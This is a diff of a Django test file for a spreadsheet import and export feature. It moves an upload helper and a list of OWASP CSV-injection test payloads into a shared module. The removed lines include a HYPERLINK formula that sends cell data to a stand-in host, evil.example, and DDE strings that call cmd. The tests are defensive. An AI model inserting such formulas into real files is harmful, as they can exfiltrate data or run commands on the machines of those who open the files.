@@ -6,7 +6,6 @@ from datetime import date
 
 import openpyxl
 import pytest
-from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from django.utils import timezone
 
@@ -15,18 +14,9 @@ from pillars.models import ChecklistItem, ItemProgress, Pillar, ProgressChange, 
 from pillars.resources import ProgressResource
 from programme.models import ContactPerson
 from programme.transfer import import_commit, import_preview
+from tests.transfer_samples import PAYLOADS, csv_upload
 
 TODAY = date(2026, 3, 2)
-
-# Payloads that a spreadsheet would otherwise run (OWASP CSV injection).
-PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
 
 
 def url(name, org, **kwargs):
@@ -34,8 +24,7 @@ def url(name, org, **kwargs):
 
 
 def upload(content: str | bytes, name="voortgang.csv"):
-    data = content.encode("utf-8") if isinstance(content, str) else content
-    return SimpleUploadedFile(name, data, content_type="text/csv")
+    return csv_upload(content, name)
 
 
 def resource(org, by=None):
